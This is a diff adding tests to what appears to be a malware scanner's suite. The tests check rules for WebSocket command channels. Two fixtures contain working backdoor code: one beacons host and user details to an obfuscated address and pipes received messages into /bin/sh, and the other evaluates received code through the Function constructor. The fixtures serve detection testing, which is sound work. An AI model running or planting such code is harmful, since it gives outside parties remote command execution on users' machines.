@@ -103,3 +103,46 @@ if tok:
     ).toEqual([]);
   });
 });
+
+describe('a command channel over a WebSocket', () => {
+  const code = (files: Record<string, string>) => install(files, 'node index.js').evidence.map((f) => f.rule);
+  it('Deno: the environment as an object, host facts, ws.onmessage into Deno.Command', () => {
+    const found = code({
+      'index.js': `const env = Deno.env.toObject();
+const ws = new WebSocket(atob('d3NzOi8vMTk4LjUxLjEwMC4yOTo0NDMvaQ=='));
+ws.onopen = () => ws.send(JSON.stringify({ host: Deno.hostname(), user: env.USER, cwd: Deno.cwd() }));
+ws.onmessage = async (ev) => {
+  const m = JSON.parse(ev.data);
+  const { stdout } = await new Deno.Command('/bin/sh', { args: ['-c', m.c], stdout: 'piped' }).output();
+  ws.send(new TextDecoder().decode(stdout));
+};`,
+    });
+    expect(found).toEqual(expect.arrayContaining(['js.exec-network-data', 'js.exfil-fingerprint']));
+  });
+  it('Node: a handler registered through a helper inside the function that gets the callback', () => {
+    expect(
+      code({
+        'index.js': `const ctor = Reflect.construct.bind(Reflect, Function);
+function channel(onMsg) {
+  const ws = new WebSocket('wss://203.0.113.7/s');
+  const on = (ev, fn) => (ws.addEventListener ? ws.addEventListener(ev, fn) : ws.on(ev, fn));
+  on('message', (m) => onMsg(ws, m.data));
+}
+channel((ws, raw) => { const job = JSON.parse(String(raw)); ctor(['require', job.c])(require); });`,
+      }),
+    ).toContain('js.eval-network');
+  });
+  it('quiet: a client whose onmessage handler renders what it receives', () => {
+    expect(
+      threatsOf(
+        install(
+          {
+            'index.js': `const ws = new WebSocket('wss://live.example-chat.dev/room');
+ws.onmessage = (ev) => { const m = JSON.parse(ev.data); document.getElementById('log').textContent += m.text; };`,
+          },
+          'node index.js',
+        ),
+      ),
+    ).toEqual([]);
+  });
+});
